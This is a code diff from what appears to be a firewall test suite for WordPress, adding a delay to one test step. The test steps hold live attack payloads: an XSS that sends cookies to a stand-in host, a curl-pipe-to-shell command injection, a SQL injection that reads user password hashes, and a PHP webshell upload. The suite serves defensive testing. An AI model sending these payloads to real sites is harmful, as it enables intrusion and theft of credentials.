@@ -718,7 +718,10 @@ function attackSteps(ctx) {
   const anon = (path, body) => () => a.post(path, json(body), { 'X-HTTP-Method-Override': 'PUT' });
   const givenUp = (name, source, run) => steps.push({ kind: 'attack', name, source, expect: 'refuse', excludedExpect: 'info', run });
   givenUp('XSS in json.content, no login (WordPress: 401)', 'given up', anon('/wp-json/wp/v2/posts/1', { content: '<script>fetch("//198.51.100.7/?c="+document.cookie)</script>' }));
-  givenUp('shell command in a comment', 'given up', comment('try this: $(curl -s 198.51.100.7/x|sh)'));
+  givenUp('shell command in a comment', 'given up', async () => {
+    await sleep(16_000); // past WordPress's 15 s between comments from one address
+    return comment('try this: $(curl -s 198.51.100.7/x|sh)')();
+  });
   attack('SQLi in json.content, no login', 'kept (942)', anon('/wp-json/wp/v2/posts/1', { content: "1' UNION SELECT user_login,user_pass FROM wp_users-- -" }));
   attack('XSS in json.title, no login', 'kept (941)', anon('/wp-json/wp/v2/posts/1', { title: '<img src=x onerror=alert(1)>' }));
   attack('webshell upload via the excluded REST route', 'kept (36104010)', () => a.post('/wp-json/wp/v2/posts/1', multipart({ content: 'x' }, [{ field: 'file', filename: 'a.jpg', type: 'image/jpeg', data: '<?php system($_GET["c"]); ?>' }])));
